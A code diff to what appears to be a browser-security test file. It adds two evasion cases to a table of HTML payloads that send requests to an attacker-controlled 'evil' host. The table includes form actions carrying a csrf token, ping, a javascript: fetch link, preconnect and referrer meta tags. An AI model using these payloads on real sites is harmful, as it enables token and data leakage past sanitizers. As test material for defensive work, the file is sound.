@@ -68,6 +68,7 @@ const ALONE = {
   "base": [(evil) => `<base href="${evil}/base/"><img src="x">`],
   "form-action": [(evil) => `<form method="post" action="${evil}/form-action"><input name="csrf" value="t"><button id="act">x</button></form>`, click],
   "form-get": [(evil) => `<form action="${evil}/form-get"><input name="csrf" value="t"><button id="act">x</button></form>`, click],
+  "end-tag": [(evil) => `</ a="><form method=post action=${evil}/end-tag><button id=act>x</button></form>">`, click],
   "formaction": [(evil) => `<form method="post" action="/x"><button id="act" formaction="${evil}/formaction">x</button></form>`, click],
   "ping": [(evil) => `<a id="act" href="#x" ping="${evil}/ping">x</a>`, click],
   "javascript-link": [(evil) => `<a id="act" href="javascript:void fetch('${evil}/javascript-link', { mode: 'no-cors' })">x</a>`, click],
@@ -78,6 +79,7 @@ const UNSEEN = {
   "preconnect": (evil) => `<link rel="preconnect" href="${evil}">`,
   "dns-prefetch": (evil) => `<link rel="dns-prefetch" href="${evil}">`,
   "referrer": () => `<meta name="referrer" content="unsafe-url">`,
+  "referrer-spelt": () => `<meta name="&#114;eferrer" content="unsafe-url">`,
 };
 
 /** Followed by nobody but a person, and closed by the policy. */
